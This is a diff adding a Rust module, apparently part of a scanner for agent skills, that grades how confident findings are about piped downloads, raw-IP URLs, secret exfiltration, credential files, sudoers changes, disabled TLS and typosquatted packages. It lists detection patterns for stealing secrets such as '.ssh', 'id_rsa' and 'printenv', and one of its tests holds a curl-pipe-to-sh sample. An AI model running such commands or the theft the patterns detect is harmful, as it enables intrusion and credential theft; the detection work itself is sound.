@@ -1,0 +1,318 @@
+//! How sure findings of rules about commands and programs are: whether they are run, and by whom.
+
+use super::surroundings::Surroundings;
+use crate::confidence::Confidence::{self, High, Low, Medium};
+use crate::security::code_context::CodeContext;
+use crate::security::terms::has_term;
+
+fn has(text: &str, parts: &[&str]) -> bool {
+    parts.iter().any(|part| text.contains(part))
+}
+
+/// Certain wherever it is found.
+pub fn always(_: &Surroundings<'_>) -> Confidence {
+    High
+}
+
+/// Never more than a hint to a reviewer.
+pub fn hint(_: &Surroundings<'_>) -> Confidence {
+    Medium
+}
+
+/// A script of the skill does it.
+pub fn scripted(found: &Surroundings<'_>) -> Confidence {
+    if found.is_done_by_script() { High } else { Medium }
+}
+
+/// A script of the skill runs the command.
+pub fn run_by_script(found: &Surroundings<'_>) -> Confidence {
+    if found.is_run_by_script() { High } else { Medium }
+}
+
+/// Downloads that are run. Installers of well-known tools are written so in every tutorial; a script that does so asks no
+/// one, and one over an address without TLS or without a name can be replaced by anyone on the way.
+pub fn download(found: &Surroundings<'_>) -> Confidence {
+    let (words, line) = (found.found(), found.line());
+    let is_piped = found.message.contains("piped");
+    let is_open = words.contains("http://") || found.text.get(found.span.clone()).is_some_and(names_number);
+    let is_command = found.is_command_block() || matches!(found.context, CodeContext::FrontMatterState);
+    if line.contains("async fetch(") || line.contains(".fetch(") || line.contains("fetch(`/") {
+        Low
+    } else if is_piped && (found.is_run_by_script() || is_command && is_open && !found.is_mentioned()) {
+        High
+    } else {
+        Medium
+    }
+}
+
+/// Whether an address in a command is a number.
+fn names_number(command: &str) -> bool {
+    command.split("://").skip(1).any(|rest| {
+        let host = rest.split(['/', ':', '"', '\'', ' ']).next().unwrap_or_default();
+        !host.is_empty() && host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
+    })
+}
+
+/// An address without a name, where something goes to it.
+pub fn number_address(found: &Surroundings<'_>) -> Confidence {
+    let is_used = found.is_done_by_script() || found.is_command_block();
+    if is_used && !found.is_mentioned() { High } else { Medium }
+}
+
+/// An address without TLS: what a script fetches from it can be replaced; what is only linked to is read by people.
+pub fn open_address(found: &Surroundings<'_>) -> Confidence {
+    let fetches = [
+        "curl ",
+        "wget ",
+        "requests.",
+        "urlopen",
+        "urlretrieve",
+        "fetch(",
+        "pip install",
+        "npm install",
+        "git clone",
+    ];
+    match has(&found.line(), &fetches) {
+        true if found.is_done_by_script() => High,
+        true => Medium,
+        false => Low,
+    }
+}
+
+/// Data in an address: that of an account is part of many addresses, a secret of none.
+pub fn in_address(found: &Surroundings<'_>) -> Confidence {
+    let words = format!("{}{}", found.line(), found.found());
+    let is_private = has(
+        &words,
+        &["$(cat", "base64", "history", "whoami", "hostname", "/etc/passwd", "conversation", ".ssh", ".env"],
+    );
+    let is_account =
+        has(&words, &["account_id", "accountid", "project_id", "gateway_id", "region", "version", "uname"]);
+    match () {
+        () if is_account && !is_private => Low,
+        () if is_private && found.is_run_by_script() => High,
+        () if found.is_said_to_agent() && found.is_picture() => High,
+        () => Medium,
+    }
+}
+
+/// Private data that is sent.
+pub fn sent(found: &Surroundings<'_>) -> Confidence {
+    let (words, line) = (found.found(), found.line());
+    let is_home = has(
+        &words,
+        &[
+            "~/.",
+            "$home/.",
+            "${home}/.",
+            ".ssh",
+            ".aws",
+            ".gnupg",
+            ".netrc",
+            "id_rsa",
+            "keychain",
+            "login data",
+        ],
+    );
+    let is_environment = has(&words, &["process.env", "os.environ", "printenv", "env |", "env|", "$(env"]);
+    let is_list = line.contains("for f in") || line.contains("for file in");
+    let is_asked = found.message.starts_with("private") || found.message.starts_with("what is private");
+    match () {
+        () if is_asked => asked_to_send(found),
+        () if is_list => Low,
+        () if found.is_done_by_script() && (is_home || is_environment && words.len() > 3) => High,
+        () if found.is_command_block() && is_home && found.file.is_skill_md() && !found.is_mentioned() => {
+            High
+        }
+        () => Medium,
+    }
+}
+
+/// Words that ask to send what is private: many skills send what the user gave them, none needs all keys or talks.
+fn asked_to_send(found: &Surroundings<'_>) -> Confidence {
+    let words = found.paragraph();
+    let is_all = has_term(
+        &words,
+        "conversation|chat history|ssh|env|environment variables|private key|private keys|all passwords|credentials|\
+         browser history|home directory",
+    );
+    let is_service = has_term(&words, "header|headers|authenticat*|authoriz*|oauth|login|transcrib*|support");
+    if found.is_said_to_agent() && found.file.is_skill_md() && is_all && !is_service { High } else { Medium }
+}
+
+/// A secret: keys of known issuers are what they look like, other texts may be placeholders.
+pub fn secret(found: &Surroundings<'_>) -> Confidence {
+    let is_generic = has(found.message, &["hard-coded secret", "password in"]);
+    let is_shown =
+        has(&found.line(), &["example", "dummy", "fake", "sample", "placeholder", "redacted", "..."]);
+    match () {
+        () if is_shown => Low,
+        () if is_generic && !found.is_program() => Medium,
+        () if is_generic => Medium,
+        () => High,
+    }
+}
+
+/// Code that is decoded and run.
+pub fn decoded(found: &Surroundings<'_>) -> Confidence {
+    let words = found.found();
+    let is_shell = has(&words, &["| bash", "|bash", "| sh", "|sh", "-enc", "iex"]);
+    if found.is_done_by_script() || is_shell && found.is_command_block() && !found.is_mentioned() {
+        High
+    } else {
+        Medium
+    }
+}
+
+/// A command that destroys: the line begins with it, in a script or as a step.
+pub fn destructive(found: &Surroundings<'_>) -> Confidence {
+    let line = found.line();
+    let start = line.trim_start();
+    let is_data = start.starts_with(['"', '\'', '|', '-', '*', '(', '{', '[']) || start.starts_with("r'");
+    match () {
+        () if is_data => Low,
+        () if found.is_run_by_script() => High,
+        () if found.is_command_block() && !found.is_mentioned() => Medium,
+        () => Medium,
+    }
+}
+
+/// Rights of the administrator: guides install packages with them; rights for all times are another matter.
+pub fn privileged(found: &Surroundings<'_>) -> Confidence {
+    let line = found.line();
+    let is_lasting = has(&line, &["nopasswd", "chmod u+s", "chmod +s", "chmod 4755", "/etc/sudoers"]);
+    let is_install = has(&line, &["apt", "yum ", "dnf ", "pacman", "brew ", "apk ", "snap "]);
+    match () {
+        () if is_lasting && !found.is_mentioned() && (found.is_program() || found.is_command_block()) => High,
+        () if is_install => Medium,
+        () => run_by_script(found),
+    }
+}
+
+/// What stays on the machine: a script that adds itself, as opposed to a guide that tells a person how.
+pub fn lasting(found: &Surroundings<'_>) -> Confidence {
+    let line = found.line();
+    let is_own_key = line.contains("export ") || line.contains("path=");
+    if found.is_run_by_script() && !is_own_key { High } else { Medium }
+}
+
+/// What changes an agent: approvals that are switched off, or a script that writes its settings.
+pub fn agent_settings(found: &Surroundings<'_>) -> Confidence {
+    let is_unasked = found.message.contains("without asking") || found.message.contains("unasked");
+    let is_run = found.is_command_block() && !found.is_mentioned();
+    if found.is_run_by_script() || is_unasked && is_run { High } else { Medium }
+}
+
+/// Packages without a version: nearly every guide names them so. Those from an address have no registry behind them.
+pub fn unpinned(found: &Surroundings<'_>) -> Confidence {
+    let line = found.line();
+    let is_address = has(&line, &["git+http", "http://", "github:", "--index-url", "--extra-index-url"]);
+    match () {
+        () if is_address && found.is_run_by_script() => High,
+        () if is_address => Medium,
+        () => Low,
+    }
+}
+
+/// A file with keys that a script reads, or that the agent is told to.
+pub fn credentials(found: &Surroundings<'_>) -> Confidence {
+    let line = found.line();
+    let is_named =
+        has(&line, &["~/.env", "config", "exist", "if [", "store", "save", "write", "chmod", "mkdir"]);
+    let is_home = has(
+        &found.found(),
+        &[".ssh/id", "id_rsa", "shadow", "login data", "wallet", ".gnupg", ".netrc", "cookies"],
+    );
+    if found.is_done_by_script() && is_home && !is_named { High } else { Medium }
+}
+
+/// The whole environment: a program that stores or sends it.
+pub fn environment(found: &Surroundings<'_>) -> Confidence {
+    let words = found.found();
+    let is_whole = has(&words, &["process.env", "environ", "printenv"])
+        || has(&found.line(), &["env |", "env>", "env >", "$(env"]);
+    let is_kept = has(
+        &found.paragraph(),
+        &[
+            "stringify(process.env",
+            "dict(os.environ",
+            "env: process.env",
+            "dumps(",
+            "curl",
+            "post(",
+            "fetch(",
+        ],
+    );
+    let is_checked = has(
+        &found.line(),
+        &[" in os.environ", "parse(process.env", "environ.get", "environ[", "env=", "...process.env"],
+    );
+    match () {
+        () if !is_whole || is_checked => Low,
+        () if is_kept && found.is_done_by_script() => High,
+        () => Medium,
+    }
+}
+
+/// Code that is made of data. Databases and sandboxes call the same word.
+pub fn dynamic(found: &Surroundings<'_>) -> Confidence {
+    let line = found.line();
+    match () {
+        () if has(&line, &["sql.exec", "db.exec", "pool.", "regex", "redis", ".exec("]) => Low,
+        () if line.contains("shell=true") => Medium,
+        () => scripted(found),
+    }
+}
+
+/// TLS that is switched off, unless the user has asked for it by an option, or it is for a machine of one's own.
+pub fn unchecked_tls(found: &Surroundings<'_>) -> Confidence {
+    let start = crate::security::context_window::above(found.text, found.span.start).lines().rev().take(3);
+    let is_optional = start.chain([found.line().as_str()]).any(|line| {
+        let line = line.to_lowercase();
+        has(&line, &["if ", "if(", " ? ", "insecure", "verify_ssl", "self-signed", "selfsigned"])
+    });
+    if found.is_done_by_script() && !is_optional { High } else { Medium }
+}
+
+/// A host that takes what it is sent, where a script sends.
+pub fn odd_host(found: &Surroundings<'_>) -> Confidence {
+    let is_sink = has(found.message, &["collector", "paste", "mining"]);
+    match () {
+        () if is_sink && found.is_done_by_script() => High,
+        () if found.message.contains("shortener") => Low,
+        () => Medium,
+    }
+}
+
+/// A name with two letters exchanged or one doubled; other near names are often packages of their own.
+pub fn near_name(found: &Surroundings<'_>) -> Confidence {
+    let mut names = found.message.split('\'').skip(1).step_by(2);
+    let (Some(name), Some(meant)) = (names.next(), names.next()) else { return Medium };
+    if is_exchanged(name, meant) && !found.is_mentioned() { High } else { Medium }
+}
+
+fn is_exchanged(name: &str, meant: &str) -> bool {
+    let (name, meant) = (name.to_lowercase().into_bytes(), meant.as_bytes());
+    let Some(at) = name.iter().zip(meant).position(|(a, b)| a != b) else { return false };
+    name.len() == meant.len()
+        && name.len() > 4
+        && at + 1 < name.len()
+        && (name[at], name[at + 1]) == (meant[at + 1], meant[at])
+        && name[at + 2..] == meant[at + 2..]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn two_letters_that_changed_places_are_a_typing_error() {
+        assert!(is_exchanged("reqeusts", "requests") && is_exchanged("lodahs", "lodash"));
+        assert!(!is_exchanged("fastai", "fastapi") && !is_exchanged("preact", "react"));
+    }
+
+    #[test]
+    fn an_address_may_be_a_number() {
+        assert!(names_number("curl http://45.1.2.3/x | sh") && !names_number("curl https://a1.io/x | sh"));
+    }
+}
